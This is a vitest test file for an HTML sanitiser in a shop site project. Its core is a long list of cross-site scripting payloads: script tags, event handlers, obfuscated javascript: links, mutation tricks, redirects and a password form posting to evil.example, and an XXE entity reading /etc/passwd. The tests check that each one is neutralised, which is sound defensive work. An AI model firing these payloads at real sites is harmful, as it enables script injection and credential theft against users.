import { content } from '@leaflog/fixtures'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { safeBlockHtml, safeColour, safeInlineHtml } from './safe-html.ts'

/** One tag as the only form in which it may leave us: known name, quoted attributes of known names and known values. */
const tag =
  /<(?:\/(?:a|b|em|i|span|strong|sub|sup|blockquote|dd|dl|dt|h[1-6]|li|ol|p|ul)|(?:br|hr) \/|p(?: class="(?:note|lead|note lead|lead note)")?|a href="(?:[/?#](?!\/)[^"<>]*|(?:mailto|tel):[^"<>]*|https?:\/\/[^"<>@]+" rel="noopener noreferrer)"|(?:b|em|i|span|strong|sub|sup|blockquote|dd|dl|dt|h[1-6]|li|ol|ul))>/g

/** What is left of HTML without its tags: of harmless HTML, words without one angle bracket. */
const wordsOf = (html: string): string => html.replaceAll(tag, '')

const harmless = (html: string): void => {
  expect(wordsOf(html)).not.toMatch(/[<>]/)
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script >alert(1)</script\t\n bar>',
  '<script/src=data:,alert(1)>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&#0;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:https://shop.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="/.//evil.example">x</a>',
  '<a href="/a/..//evil.example">x</a>',
  '<a href="https:/\\evil.example">x</a>',
  '<a href="https://shop.example@evil.example">x</a>',
  '<a href="https://shop.example:x@evil.example/">x</a>',
  '<a href="https://">x</a>',
  '<a href="http://[::1">x</a>',
  '<a href="/x" onclick="alert(1)" style="position:fixed;inset:0" id="root" target="_blank" ping="//evil.example" download>x</a>',
  '<a href=/x rel="opener" href="javascript:alert(1)">x</a>',
  '<a href="x" formaction="javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="x:expression(alert(1))" class="modal-backdrop fixed">x</p>',
  '<p id="cart" name="cookie">x</p>',
  '<p onmouseover=alert(1)//>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<h1 data-x="1" is="x-card" slot="a" contenteditable tabindex=1 autofocus onfocus=alert(1)>x</h1>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script><?php x ?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<script>alert(1)//<</script>',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<p title="<img src=x onerror=alert(1)>',
  '<a href="/x"><img src=x onerror=alert(1)></a',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<p __proto__=1 constructor=2>x</p><__proto__>x</__proto__><constructor onclick=x>y</constructor>',
]

describe('hostile HTML', () => {
  test.each(hostile)('[3.16.1] %s', (html) => {
    harmless(safeBlockHtml(html))
    harmless(safeInlineHtml(html))
    expect(safeInlineHtml(html)).not.toMatch(/<(p|h\d|ul|ol|li|blockquote|dl|dt|dd|hr)\b/)
  })

  test('[3.16.1] all of it together, and any part of it within any other', () => {
    harmless(safeBlockHtml(hostile.join('')))
    const piece = fc.constantFrom(
      ...hostile,
      '<p>',
      '</p>',
      '"',
      "'",
      '>',
      '<',
      '<!--',
      '-->',
      '</a>',
      '<a href="',
      ' ',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), fc.nat(40), (pieces, cut) => {
        harmless(safeBlockHtml(pieces.map((one) => one.slice(0, -cut || undefined)).join('')))
      }),
      { numRuns: 2000 },
    )
  })

  test('[3.16.1] thousands of open elements neither take for ever nor nest so deep', () => {
    const html = safeBlockHtml('<blockquote>'.repeat(20_000) + 'words')
    expect(html).toContain('words')
    expect(html.length).toBeLessThan(2000)
  })
})

describe('links', () => {
  test.each([
    ['/rewards/create-account?a=1&amp;b=2#x', '<a href="/rewards/create-account?a=1&amp;b=2#x">x</a>'],
    ['#top', '<a href="#top">x</a>'],
    ['terms', '<a href="/terms">x</a>'],
    ['mailto:privacy@fernhill.example', '<a href="mailto:privacy@fernhill.example">x</a>'],
    ['tel:1-800-222-1222', '<a href="tel:1-800-222-1222">x</a>'],
    ['https://fda.example/a', '<a href="https://fda.example/a" rel="noopener noreferrer">x</a>'],
    ['HTTP://FDA.example', '<a href="http://fda.example/" rel="noopener noreferrer">x</a>'],
    ['//evil.example', '<span>x</span>'],
    ['javascript:x()', '<span>x</span>'],
  ])('[3.16.1] to %s', (href, html) => {
    expect(safeBlockHtml(`<a href="${href}">x</a>`)).toBe(html)
  })
})

test('[3.16.1] the classes of a note and a lead stay, others go', () => {
  expect(safeBlockHtml('<p class="note big">a</p><p class="lead">b</p><ul class="note"></ul>')).toBe(
    '<p class="note">a</p><p class="lead">b</p><ul></ul>',
  )
})

test.each(content.blocks.filter(({ identifier }) => !identifier.startsWith('data_')))(
  '[3.16.1] the block $identifier loses nothing',
  ({ content: html }) => {
    expect(safeBlockHtml(html)).toBe(html)
  },
)

test('[9h.1] the banner is one line of words', () => {
  expect(safeInlineHtml(content.header.promobannerText)).toBe('Weekly Deals: Free Shipping on orders $100+')
  expect(safeColour(content.header.promobannerBgColor)).toBe(content.header.promobannerBgColor)
})
